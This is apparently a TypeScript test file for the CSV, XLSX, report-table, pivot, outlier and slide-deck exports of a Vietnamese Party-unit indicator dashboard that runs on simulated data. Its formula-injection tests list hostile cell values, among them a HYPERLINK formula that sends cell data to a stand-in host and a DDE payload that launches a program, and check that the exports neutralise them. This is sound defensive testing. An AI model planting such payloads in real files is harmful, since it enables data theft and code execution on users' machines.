// Exports and documentation: the CSV dialects, the long table, the report table and the pivot of the export page
// (read back as a user's spreadsheet would: ";" and decimal "," for the Vietnamese CSV, exceljs for the XLSX),
// the plain-word definitions, the parser of docs/indicators.md, the outlier method, and the deck of slides
// chosen for a unit and a year.
import {readFileSync} from "node:fs";
import ExcelJS from "exceljs";
import {describe, expect, it} from "vitest";
import {csvField, toCsv, VIETNAMESE_CSV} from "../../src/components/csv.ts";
import {EXPORT_HEADER, exportCsv, exportRows, exportXlsx, type ExportFile} from "../../src/components/export-data.ts";
import {definitionEntries, PLAIN_DEFINITIONS, plainText} from "../../src/components/export-definitions.ts";
import {exportFigure, round} from "../../src/components/export-figures.ts";
import {hierarchyOrder, reportTable, reportYears} from "../../src/components/export-report.ts";
import {tableCsv, tableWorkbook} from "../../src/components/export-table.ts";
import {formatCell} from "../../src/components/export-view.ts";
import {fixedDim, pivotItems, pivotTable} from "../../src/components/pivot.ts";
import {parseIndicatorDoc} from "../../src/components/indicator-doc.ts";
import {findOutliers, median, quantile, robustZ} from "../../src/components/outliers.ts";
import {Series, type IndicatorMeta, type SeriesFile} from "../../src/components/series.ts";
import {deckSpec, MAX_INDICATOR_SLIDES} from "../../src/components/slides.ts";

const share: IndicatorMeta = {indicator: "rate", name: "Tỷ lệ sinh hoạt", short: "Sinh hoạt", target: 1, higherIsBetter: true, kind: "share"};
const score: IndicatorMeta = {indicator: "index", name: "Chỉ số chất lượng", short: "Chỉ số", target: null, higherIsBetter: true, kind: "score"};
const rank: IndicatorMeta = {indicator: "rank", name: "Thứ hạng chỉ số", short: "Thứ hạng", target: null, higherIsBetter: false, kind: "rank"};
const labels = {levels: {tinh: "Tỉnh", tren_co_so: "Trên cơ sở"}, types: {nong_thon: "Nông thôn"}};

const exportFile: ExportFile = {
  units: [
    {code: "TQ", name: "Đảng bộ tỉnh Tuyên Quang", level: "tinh"},
    {code: "HU-LB", name: "Huyện ủy Lâm Bình", level: "tren_co_so", parent: "TQ", type: "nong_thon"}
  ],
  periods: ["2021", "2022", "2020-2025"],
  types: ["year", "year", "term"],
  n: {rate: {TQ: [90, 95, 185], "HU-LB": [9, null, 9]}, index: {"HU-LB": [70.5, 72, null]}},
  d: {rate: {TQ: [100, 100, 200], "HU-LB": [10, null, 10]}, index: {"HU-LB": [1, 1, null]}},
  v: {rate: {TQ: [0.9, 0.95, 0.925], "HU-LB": [0.9, null, 0.9]}, index: {"HU-LB": [70.5, 72, null]}}
};

/** Reads CSV text as a spreadsheet with the dialect's settings would: fields split on the separator (quotes
 *  honoured), numbers with the dialect's decimal mark become numbers, the rest stays text. */
function readCsv(text: string, separator: string, decimal: string): (string | number | null)[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === separator) row.push(field), (field = "");
    else if (ch === "\n" || (ch === "\r" && text[i + 1] === "\n")) row.push(field), rows.push(row), (row = []), (field = ""), (i += ch === "\r" ? 1 : 0);
    else field += ch;
  }
  const number = decimal === "," ? /^-?\d+(,\d+)?$/ : /^-?\d+(\.\d+)?$/;
  return rows.map((r) => r.map((f) => (f === "" ? null : number.test(f) ? Number(f.replace(",", ".")) : f)));
}

/** A small hierarchy: the province, two committees (the second listed first), a grassroots unit under each. */
const treeFile: ExportFile = {
  units: [
    {code: "TQ", name: "Đảng bộ tỉnh Tuyên Quang", level: "tinh"},
    {code: "HU-NH.01", name: "Đảng bộ xã Vĩnh Lộc", level: "dang_bo_co_so", parent: "HU-NH", committee: "HU-NH"},
    {code: "HU-LB", name: "Huyện ủy Lâm Bình", level: "tren_co_so", parent: "TQ"},
    {code: "HU-NH", name: "Huyện ủy Na Hang", level: "tren_co_so", parent: "TQ"},
    {code: "HU-LB.01", name: "Đảng bộ xã Thượng Lâm", level: "dang_bo_co_so", parent: "HU-LB", committee: "HU-LB"}
  ],
  periods: ["2021", "2022"],
  types: ["year", "year"],
  n: {
    rate: {TQ: [9007, 9846], "HU-LB": [881, 975], "HU-NH": [50, 40], "HU-LB.01": [10, 12], "HU-NH.01": [5, null]},
    index: {TQ: [80.1, 84.6], "HU-LB": [75.45, 80.17], "HU-NH": [70, 69], "HU-LB.01": [60, 65], "HU-NH.01": [50, null]},
    rank: {"HU-LB": [1, 1], "HU-NH": [2, 2], "HU-LB.01": [1, 1], "HU-NH.01": [1, null]}
  },
  d: {
    rate: {TQ: [10000, 10000], "HU-LB": [1000, 1000], "HU-NH": [50, 50], "HU-LB.01": [12, 12], "HU-NH.01": [5, null]},
    index: {TQ: [1, 1], "HU-LB": [1, 1], "HU-NH": [1, 1], "HU-LB.01": [1, 1], "HU-NH.01": [1, null]},
    rank: {"HU-LB": [2, 2], "HU-NH": [2, 2], "HU-LB.01": [1, 1], "HU-NH.01": [1, null]}
  },
  v: {
    rate: {TQ: [0.9007, 0.9846], "HU-LB": [0.881, 0.975], "HU-NH": [1, 0.8], "HU-LB.01": [0.833333, 1], "HU-NH.01": [1, null]},
    index: {TQ: [80.1, 84.6], "HU-LB": [75.45, 80.17], "HU-NH": [70, 69], "HU-LB.01": [60, 65], "HU-NH.01": [50, null]},
    rank: {"HU-LB": [0.5, 0.5], "HU-NH": [1, 1], "HU-LB.01": [1, 1], "HU-NH.01": [1, null]}
  }
};

describe("csv", () => {
  it("quotes only when needed and writes CRLF lines", () => {
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
    expect(csvField(" lead")).toBe('" lead"');
    expect(csvField(0.9381)).toBe("0.9381");
    expect(csvField(1e-7)).toBe("0.0000001");
    expect(csvField(null)).toBe("");
    expect(toCsv(["Mã", "Giá trị"], [["A", 1.5]])).toBe("Mã,Giá trị\r\nA,1.5\r\n");
  });

  it("writes the Vietnamese dialect: ';' between fields, ',' as decimal mark, a ';' in text quoted", () => {
    expect(toCsv(["Đơn vị", "Tỷ lệ (%)"], [["Huyện ủy Lâm Bình", 98.5], ["A; B", -0.25], ["C, D", 1234]], VIETNAMESE_CSV)).toBe(
      'Đơn vị;Tỷ lệ (%)\r\nHuyện ủy Lâm Bình;98,5\r\n"A; B";-0,25\r\nC, D;1234\r\n'
    );
  });
});

describe("figures on the page", () => {
  it("are written in vi-VN: decimal comma, grouped thousands, signed changes, years as they are", () => {
    expect(formatCell(98.5, "percent")).toBe("98,5");
    expect(formatCell(90.7, "fixed2")).toBe("90,70");
    expect(formatCell(1.44, "change")).toBe("+1,4");
    expect(formatCell(-1.04, "change")).toBe("\u22121,0");
    expect(formatCell(0.04, "change")).toBe("0,0");
    expect(formatCell(18204, "count")).toBe("18.204");
    expect(formatCell(2022, "period")).toBe("2022");
    expect(formatCell(null, "percent")).toBe(null);
  });
});

describe("figures", () => {
  it("a share in percent, a score without its fake denominator, a rank whole with its n", () => {
    expect(exportFigure(share, 9846, 10000, 0.984619, 1)).toEqual({value: 98.5, numerator: 9846, denominator: 10000});
    expect(exportFigure(share, 1, 3, 1 / 3, 2)).toEqual({value: 33.33, numerator: 1, denominator: 3});
    expect(exportFigure(score, 84.59847, 1, 84.5985, 1)).toEqual({value: 84.6, numerator: null, denominator: null});
    expect(exportFigure(rank, 3, 10, 0.3, 1)).toEqual({value: 3, numerator: null, denominator: 10});
    expect(round(1.005, 2)).toBe(1.01);
    expect(round(-0.25, 1)).toBe(-0.3);
  });
});

const HOSTILE_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào")', "+84 912", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR", "=cmd|' /C calc'!A0"];

describe("formula injection (CSV, XLSX)", () => {
  const hostile: ExportFile = {
    units: HOSTILE_NAMES.map((name, i) => ({code: `HU-X${i}`, name, level: "tren_co_so", parent: "TQ"})),
    periods: ["2022"],
    types: ["year"],
    n: {rate: Object.fromEntries(HOSTILE_NAMES.map((_, i) => [`HU-X${i}`, [-1]]))},
    d: {rate: Object.fromEntries(HOSTILE_NAMES.map((_, i) => [`HU-X${i}`, [2]]))},
    v: {rate: Object.fromEntries(HOSTILE_NAMES.map((_, i) => [`HU-X${i}`, [-0.5]]))}
  };
  const rows = exportRows([hostile], [share], {indicators: ["rate"], periodTypes: ["year"]});

  it("a CSV cell that a spreadsheet would read as a formula starts with an apostrophe; numbers stay numbers", () => {
    expect(rows).toHaveLength(HOSTILE_NAMES.length);
    for (const [csv, sep, dec] of [
      [exportCsv(rows, labels), ",", "."],
      [exportCsv(rows, labels, VIETNAMESE_CSV), ";", ","]
    ] as const) {
      const table = readCsv(csv, sep, dec).slice(1);
      expect(table).toHaveLength(HOSTILE_NAMES.length);
      table.forEach((row, i) => {
        expect(row[1], `name of ${JSON.stringify(HOSTILE_NAMES[i])}`).toBe(`'${HOSTILE_NAMES[i]}`);
        expect(row.slice(8, 12)).toEqual([-1, 2, -50, "%"]);
      });
    }
    expect(csvField("Huyện ủy Lâm Bình")).toBe("Huyện ủy Lâm Bình");
    expect(csvField(-3)).toBe("-3");
  });

  it("an XLSX holds every text as an inline string with the same apostrophe, and no formula at all", async () => {
    const [entry] = definitionEntries([share]);
    const bytes = await exportXlsx(rows, labels, {definitions: [{...entry, numerator: "=1+1"}], filters: ["-"]});
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
    const data = wb.getWorksheet("Số liệu")!;
    HOSTILE_NAMES.forEach((name, i) => expect(data.getCell(`B${i + 2}`).value).toBe(`'${name}`));
    expect(data.getCell("K2").value).toBe(-50);
    expect(wb.getWorksheet("Định nghĩa")!.getCell("F2").value).toBe("'=1+1");
    for (const ws of wb.worksheets)
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === "string") expect(cell.value, `${ws.name}!${cell.address}`).not.toMatch(/^[=+\-@\t\r]/);
        })
      );
  });
});

describe("long table", () => {
  it("filters by indicator, period type, periods, units and committee; a missing value is no row", () => {
    const all = exportRows([exportFile], [share, score], {indicators: ["rate", "index"], periodTypes: ["year", "term"]});
    expect(all.map((r) => `${r.unit.code} ${r.indicator.indicator} ${r.period}`)).toEqual([
      "TQ rate 2021",
      "TQ rate 2022",
      "TQ rate 2020-2025",
      "HU-LB rate 2021",
      "HU-LB rate 2020-2025",
      "HU-LB index 2021",
      "HU-LB index 2022"
    ]);
    const years = exportRows([exportFile, exportFile], [share], {indicators: ["rate"], periodTypes: ["year"], periods: ["2022"], units: null});
    expect(years.map((r) => r.unit.code)).toEqual(["TQ"]); // the same file twice gives each row once
    const committee = exportRows([exportFile], [share], {indicators: ["rate"], periodTypes: ["year"], committee: "HU-LB"});
    expect(committee.map((r) => r.period)).toEqual(["2021"]);
  });

  it("writes shares in percent with their unit, the index without numerator and denominator, in both dialects", () => {
    const rows = exportRows([exportFile], [share, score], {indicators: ["rate", "index"], periodTypes: ["year"], units: ["HU-LB"]});
    const std = readCsv(exportCsv(rows, labels), ",", ".");
    expect(std[0]).toEqual(EXPORT_HEADER);
    expect(EXPORT_HEADER.slice(-4)).toEqual(["Tử số", "Mẫu số", "Giá trị", "Đơn vị tính"]);
    expect(std[1]).toEqual(["HU-LB", "Huyện ủy Lâm Bình", "Trên cơ sở", "HU-LB", "Nông thôn", "Năm", 2021, "Tỷ lệ sinh hoạt", 9, 10, 90, "%"]);
    expect(std[2].slice(8)).toEqual([null, null, 70.5, "điểm (0–100)"]); // no fake denominator of 1
    const vi = exportCsv(rows, labels, VIETNAMESE_CSV);
    expect(vi.split("\r\n")[1]).toBe("HU-LB;Huyện ủy Lâm Bình;Trên cơ sở;HU-LB;Nông thôn;Năm;2021;Tỷ lệ sinh hoạt;9;10;90;%");
    expect(readCsv(vi, ";", ",")).toEqual(std);
  });

  it("writes a compressed XLSX with data, plain-word definitions and notes that exceljs reads back", async () => {
    const rows = exportRows([exportFile], [share, score], {indicators: ["rate", "index"], periodTypes: ["year", "term"]});
    const bytes = await exportXlsx(rows, labels, {
      definitions: definitionEntries([share, score], [{indicator: "rate", formula: "Số chi bộ-tháng có sinh hoạt / số chi bộ-tháng", source: "Điều lệ Đảng"}]),
      filters: ["Cấp: tỉnh và đảng bộ trực thuộc"],
      generated: new Date(2022, 0, 15)
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Số liệu", "Định nghĩa", "Ghi chú"]);
    const data = wb.getWorksheet("Số liệu")!;
    expect((data.getRow(1).values as unknown[]).slice(1)).toEqual(EXPORT_HEADER);
    expect(data.rowCount).toBe(1 + rows.length);
    expect(data.getCell("A2").value).toBe("TQ");
    expect(data.getCell("G2").value).toBe(2021); // the year is a number
    expect(data.getCell("G2").numFmt).toBe("0"); // …shown without a thousands separator
    expect(data.getCell("G4").value).toBe("2020-2025"); // a term stays text
    expect(data.getCell("I2").value).toBe(90);
    expect(data.getCell("K2").value).toBe(90);
    expect(data.getCell("K2").numFmt).toBe("#,##0.00"); // the value column takes its row's kind…
    expect(data.getCell("I2").numFmt).toBe("#,##0"); // …the counts and the year keep theirs
    expect(data.getCell("L2").value).toBe("%");
    const index = rows.findIndex((r) => r.indicator.indicator === "index");
    expect(data.getCell(`I${index + 2}`).value).toBe(null);
    expect(data.getCell(`J${index + 2}`).value).toBe(null);
    expect(data.getCell(`K${index + 2}`).value).toBe(70.5);
    const defs = wb.getWorksheet("Định nghĩa")!;
    expect(defs.getCell("A2").value).toBe("Tỷ lệ sinh hoạt");
    // An indicator without a plain definition falls back on the published formula, split at its "/".
    expect(defs.getCell("F2").value).toBe("Số chi bộ-tháng có sinh hoạt");
    expect(defs.getCell("G2").value).toBe("số chi bộ-tháng");
    expect(defs.getCell("D2").value).toBe(100); // target in percent, like the values
    expect(defs.getCell("E3").value).toBe("Càng cao càng tốt");
    // No developer words anywhere in the workbook: no code names, backticks or file paths.
    for (const ws of wb.worksheets)
      ws.eachRow((row) => row.eachCell((cell) => expect(String(cell.value), `${ws.name}!${cell.address}`).not.toMatch(/`|\b[a-z]+_[a-z_]+\b|\.csv\b|\/[a-z]+\//)));
    const notes = wb.getWorksheet("Ghi chú")!;
    expect(String(notes.getCell("A2").value)).toContain("DỮ LIỆU MÔ PHỎNG");
    expect(String(notes.getCell("A3").value)).toBe(`Xuất ngày 15/01/2022; ${rows.length} dòng.`);
  });
});

describe("definitions", () => {
  it("every catalog indicator has its numerator and denominator in plain Vietnamese words", () => {
    const [head, ...lines] = readCsv(readFileSync(new URL("../../pipelines/seeds/indicator_catalog.csv", import.meta.url), "utf8"), ",", ".");
    const col = (name: string) => head.indexOf(name);
    expect(lines.length).toBeGreaterThan(20);
    const catalog = lines.map((r) => ({
      meta: {indicator: String(r[col("indicator")]), name: String(r[col("name_vi")]), short: String(r[col("short_vi")]), target: null, higherIsBetter: true, kind: r[col("unit")] as IndicatorMeta["kind"]},
      method: {indicator: String(r[col("indicator")]), formula: String(r[col("formula_vi")]), source: String(r[col("source")])}
    }));
    const entries = definitionEntries(
      catalog.map((c) => c.meta),
      catalog.map((c) => c.method)
    );
    for (const e of entries) {
      const code = e.indicator.indicator;
      expect(e.numerator.length, code).toBeGreaterThan(5);
      expect(e.denominator.length, code).toBeGreaterThan(1);
      for (const text of [e.numerator, e.denominator, e.description ?? "", e.formula ?? ""]) {
        expect(text, code).not.toMatch(/`|\.csv\b|\bas in\b|\b[a-z]+_[a-z_]+\b|\b(?:HTXSNV|HTTNV|HTNV|KHTNV|TCCS)\b/);
      }
    }
    // The plain definitions cover the indicators a report uses most; the index says it is not a ratio.
    for (const code of ["regular_meeting_rate", "attendance_rate", "quality_index", "quality_index_rank"]) expect(PLAIN_DEFINITIONS[code], code).toBeDefined();
    expect(entries.find((e) => e.indicator.indicator === "quality_index")!.numerator).toMatch(/^Không có/);
  });

  it("strips code, file paths and cross-references from a published text", () => {
    expect(plainText("100 × Σ trọng số × điểm thành phần / Σ trọng số (trọng số: pipelines/seeds/quality_index_weights.csv)")).toBe(
      "100 × Σ trọng số × điểm thành phần / Σ trọng số"
    );
    expect(plainText("Số buổi (xem `fct_meetings`) họp đúng ngày, as in 25.")).toBe("Số buổi họp đúng ngày");
    expect(plainText("Số chi bộ trực thuộc xếp loại HTTNV hoặc HTXSNV / số được xếp loại")).toBe(
      "Số chi bộ trực thuộc xếp loại hoàn thành tốt nhiệm vụ hoặc hoàn thành xuất sắc nhiệm vụ / số được xếp loại"
    );
    expect(plainText(null)).toBe(null);
  });
});

describe("report table", () => {
  it("orders units by the hierarchy: each unit followed by its own units", () => {
    expect(hierarchyOrder(treeFile.units).map((o) => `${o.depth}:${o.unit.code}`)).toEqual(["0:TQ", "1:HU-LB", "2:HU-LB.01", "1:HU-NH", "2:HU-NH.01"]);
    expect(reportYears([treeFile])).toEqual([2021, 2022]);
  });

  it("one row per unit, one column per indicator for the year, the change from the year before, ranks with their n", () => {
    const t = reportTable([treeFile], [share, score, rank], {indicators: ["rate", "index", "rank"], year: 2022, change: true});
    expect(t.columns.map((c) => c.header)).toEqual([
      "Đơn vị",
      "Mã đơn vị",
      "Sinh hoạt (%)",
      "Sinh hoạt: thay đổi so với 2021 (điểm %)",
      "Chỉ số (điểm)",
      "Chỉ số: thay đổi so với 2021 (điểm)",
      "Thứ hạng",
      "Số đơn vị được xếp hạng"
    ]);
    // HU-NH.01 has no value in 2022: no row.
    expect(t.rows).toEqual([
      ["Đảng bộ tỉnh Tuyên Quang", "TQ", 98.5, 8.4, 84.6, 4.5, null, null],
      ["Huyện ủy Lâm Bình", "HU-LB", 97.5, 9.4, 80.2, 4.7, 1, 2],
      ["Đảng bộ xã Thượng Lâm", "HU-LB.01", 100, 16.7, 65, 5, 1, 1],
      ["Huyện ủy Na Hang", "HU-NH", 80, -20, 69, -1, 2, 2]
    ]);
    expect(t.depth).toEqual([0, 1, 2, 1]);
    const vi = readCsv(tableCsv(t, VIETNAMESE_CSV), ";", ",");
    expect(vi.slice(1)).toEqual(t.rows);
    expect(tableCsv(t, VIETNAMESE_CSV).split("\r\n")[1]).toBe("Đảng bộ tỉnh Tuyên Quang;TQ;98,5;8,4;84,6;4,5;;");
    const plain = reportTable([treeFile], [share, score, rank], {indicators: ["rate"], year: 2021, units: ["HU-NH", "HU-NH.01"]});
    expect(plain.columns.map((c) => c.header)).toEqual(["Đơn vị", "Mã đơn vị", "Sinh hoạt (%)"]);
    expect(plain.rows).toEqual([
      ["Huyện ủy Na Hang", "HU-NH", 100],
      ["Đảng bộ xã Vĩnh Lộc", "HU-NH.01", 100]
    ]);
  });

  it("downloads as a workbook with the same figures, one decimal, signed changes", async () => {
    const t = reportTable([treeFile], [share, score, rank], {indicators: ["rate", "index", "rank"], year: 2022, change: true});
    const bytes = await tableWorkbook(t, {sheet: "Báo cáo 2022", preamble: ["Năm 2022"], definitions: definitionEntries([share, score, rank]), filters: []});
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
    const ws = wb.getWorksheet("Báo cáo 2022")!;
    expect(ws.getCell("A1").value).toBe("Năm 2022");
    expect((ws.getRow(2).values as unknown[]).slice(1)).toEqual(t.columns.map((c) => c.header));
    const read = t.rows.map((_, i) => (ws.getRow(3 + i).values as unknown[]).slice(1).map((v) => v ?? null));
    expect(read.map((r) => [...r, ...Array(t.columns.length - r.length).fill(null)])).toEqual(t.rows);
    expect(ws.getCell("C3").numFmt).toBe("0.0");
    expect(ws.getCell("D6").numFmt).toBe("+0.0;-0.0;0.0");
    expect(ws.getCell("G4").numFmt).toBe("#,##0");
  });
});

describe("pivot", () => {
  const rows = exportRows([treeFile], [share, score, rank], {indicators: ["rate", "index", "rank"], periodTypes: ["year"]});

  it("offers the units in hierarchy order, the periods in time order, a rank followed by its n", () => {
    const items = pivotItems(rows);
    expect(items.unit.map((i) => i.key)).toEqual(["TQ", "HU-LB", "HU-LB.01", "HU-NH", "HU-NH.01"]);
    expect(items.period.map((i) => i.label)).toEqual(["2021", "2022"]);
    expect(items.indicator.map((i) => `${i.label}${i.unit}`)).toEqual(["Sinh hoạt (%)", "Chỉ số (điểm)", "Thứ hạng", "Số đơn vị được xếp hạng"]);
    expect(fixedDim({rows: "indicator", columns: "unit"})).toBe("period");
  });

  it("units × periods for one indicator; indicators × units for one year; every cell is the unit's figure", () => {
    const a = pivotTable(rows, {rows: "unit", columns: "period", fixed: "rate"});
    expect(a.columns.map((c) => c.header)).toEqual(["Đơn vị", "Mã đơn vị", "2021 (%)", "2022 (%)"]);
    expect(a.rows).toEqual([
      ["Đảng bộ tỉnh Tuyên Quang", "TQ", 90.1, 98.5],
      ["Huyện ủy Lâm Bình", "HU-LB", 88.1, 97.5],
      ["Đảng bộ xã Thượng Lâm", "HU-LB.01", 83.3, 100],
      ["Huyện ủy Na Hang", "HU-NH", 100, 80],
      ["Đảng bộ xã Vĩnh Lộc", "HU-NH.01", 100, null]
    ]);
    const b = pivotTable(rows, {rows: "indicator", columns: "unit", fixed: "year|2022"});
    expect(b.columns.map((c) => c.header)).toEqual(["Chỉ tiêu", "Đảng bộ tỉnh Tuyên Quang", "Huyện ủy Lâm Bình", "Đảng bộ xã Thượng Lâm", "Huyện ủy Na Hang", "Đảng bộ xã Vĩnh Lộc"]);
    expect(b.rows).toEqual([
      ["Sinh hoạt (%)", 98.5, 97.5, 100, 80, null],
      ["Chỉ số (điểm)", 84.6, 80.2, 65, 69, null],
      ["Thứ hạng", null, 1, 1, 2, null],
      ["Số đơn vị được xếp hạng", null, 2, 1, 2, null]
    ]);
    expect(b.rowKind).toEqual(["percent", "score", "count", "count"]);
    // The Vietnamese CSV holds exactly these figures.
    expect(readCsv(tableCsv(b, VIETNAMESE_CSV), ";", ",")).toEqual([b.columns.map((c) => c.header), ...b.rows]);
    expect(() => pivotTable(rows, {rows: "unit", columns: "unit", fixed: "rate"})).toThrow();
  });
});

describe("docs/indicators.md", () => {
  it("yields a section with numerator, denominator, target and source for each documented indicator", () => {
    const docs = parseIndicatorDoc(readFileSync(new URL("../../docs/indicators.md", import.meta.url), "utf8"));
    const regular = docs.find((d) => d.indicator === "regular_meeting_rate");
    expect(regular).toBeDefined();
    expect(regular!.numerator).toMatch(/cell-months/);
    expect(regular!.denominator).toMatch(/cell-months/);
    expect(regular!.target).toMatch(/100/);
    expect(regular!.source).toMatch(/Điều lệ Đảng/);
  });

  it("reads labelled bullets in English or Vietnamese and stops at the next section", () => {
    const docs = parseIndicatorDoc(
      [
        "# Title",
        "## 1. `a_rate` — Tỷ lệ A",
        "- **Tử số:** số A",
        "- **Mẫu số:** số B, kéo dài",
        "  sang dòng sau",
        "- **Target:** 90 %. **Source:** Quy định 1",
        "- Periods: year",
        "## How they are tested",
        "- **Numerator:** not part of a_rate"
      ].join("\n")
    );
    expect(docs).toEqual([
      {
        indicator: "a_rate",
        title: "Tỷ lệ A",
        numerator: "số A",
        denominator: "số B, kéo dài sang dòng sau",
        target: "90 %.",
        source: "Quy định 1",
        periods: "year",
        text: expect.stringContaining("số A")
      }
    ]);
  });
});

describe("outliers", () => {
  it("computes quantiles, medians and modified z-scores", () => {
    expect(quantile([1, 2, 3, 4], 0.5)).toBe(2.5);
    expect(median([5, 1, 3])).toBe(3);
    const z = robustZ([1, 2, 3, 4, 100]);
    expect(z[2]).toBe(0);
    expect(z[4]).toBeCloseTo((0.6745 * 97) / 1, 5);
    // MAD = 0: the mean absolute deviation takes over.
    const flat = robustZ([1, 1, 1, 1, 0.5]);
    expect(flat[4]).toBeCloseTo(-0.5 / (1.253314 * 0.1), 5);
    expect(robustZ([1, 1, 1]).every(Number.isNaN)).toBe(true);
  });

  it("flags a value far from its peers and a jump from the previous year, ignoring small denominators", () => {
    const obs = [
      ...["a", "b", "c", "d", "e", "f", "g"].map((unit, i) => ({unit, year: 2021, value: 0.95 + i * 0.005, denominator: 100})),
      ...["a", "b", "c", "d", "e", "f"].map((unit, i) => ({unit, year: 2022, value: 0.95 + i * 0.005, denominator: 100})),
      {unit: "g", year: 2022, value: 0.6, denominator: 100}, // far below, and a jump of 38 points
      {unit: "h", year: 2022, value: 0.1, denominator: 5} // tiny denominator: not judged
    ];
    const {summaries, flags} = findOutliers(obs, "share");
    expect(summaries.map((s) => [s.year, s.n])).toEqual([
      [2021, 7],
      [2022, 7]
    ]);
    expect(flags.map((f) => [f.unit, f.year, f.rule])).toEqual([
      ["g", 2022, "z"],
      ["g", 2022, "jump"]
    ]);
    expect(flags.find((f) => f.rule === "jump")!.previous).toBeCloseTo(0.98, 5);
  });
});

describe("slides", () => {
  const indicators: IndicatorMeta[] = Array.from({length: 8}, (_, i) => ({
    indicator: `i${i}`,
    name: `Chỉ tiêu ${i}`,
    short: `CT ${i}`,
    target: i === 7 ? null : 0.9,
    higherIsBetter: true,
    kind: "share"
  }));
  const v = (base: number) => Object.fromEntries(["P", "A", "B", "C"].map((u, j) => [u, [base - j * 100, base + 200 - j * 100, null]]));
  const file: SeriesFile = {
    years: [2020, 2021, 2022],
    terms: ["2015-2020", "2020-2025"],
    scale: Object.fromEntries(indicators.map((d) => [d.indicator, 10000])),
    units: [
      {code: "P", name: "Đảng bộ tỉnh P", level: "tinh"},
      {code: "A", name: "Huyện ủy A", level: "tren_co_so", parent: "P"},
      {code: "B", name: "Huyện ủy B", level: "tren_co_so", parent: "P"},
      {code: "C", name: "Huyện ủy C", level: "tren_co_so", parent: "P"}
    ],
    v: Object.fromEntries(indicators.map((d) => [d.indicator, v(9000)])),
    t: Object.fromEntries(indicators.map((d) => [d.indicator, Object.fromEntries(["P", "A", "B", "C"].map((u) => [u, [8800, 9100]]))]))
  };
  const series = new Series(file);

  it("builds a title, at most six indicator slides, a ranking, the terms and a summary", () => {
    const deck = deckSpec({series, indicators, unit: "B", year: 2021, province: "P"});
    expect(deck.map((s) => s.kind)).toEqual(["title", ...Array(MAX_INDICATOR_SLIDES).fill("indicator"), "ranking", "terms", "summary"]);
    expect(deck.length).toBeGreaterThanOrEqual(7);
    expect(deck.length).toBeLessThanOrEqual(11);
    const first = deck[1];
    expect(first.kind === "indicator" && first.headline).toBe("90,0\u00a0%"); // B 2021: 9200 − 100 − 100
    expect(first.kind === "indicator" && first.caption).toContain("+2,0\u00a0điểm\u00a0% so với 2020");
    expect(first.kind === "indicator" && first.caption).toContain("mục tiêu ≥ 90\u00a0%: đạt");
    const ranking = deck.find((s) => s.kind === "ranking")!;
    expect(ranking.kind === "ranking" && ranking.headline).toBe("Hạng 2/3");
    const terms = deck.find((s) => s.kind === "terms")!;
    expect(terms.kind === "terms" && terms.headline).toBe("8/8");
    const summary = deck.find((s) => s.kind === "summary")!;
    expect(summary.kind === "summary" && summary.headline).toBe("7/7");
  });

  it("ranks the province's committees on the province's deck, and skips indicators without a value", () => {
    const deck = deckSpec({series, indicators, unit: "P", year: 2021, province: "P"});
    const ranking = deck.find((s) => s.kind === "ranking")!;
    expect(ranking.kind === "ranking" && ranking.rows.map((r) => r.code)).toEqual(["A", "B", "C"]);
    expect(ranking.kind === "ranking" && ranking.headline).toBe("2/3"); // A (92 %) and B (91 %) meet the 90 % target
    const none = deckSpec({series, indicators, unit: "A", year: 2022, province: "P"});
    expect(none.map((s) => s.kind)).toEqual(["title"]);
    expect(deckSpec({series, indicators, unit: "Z", year: 2021, province: "P"})).toEqual([]);
  });
});
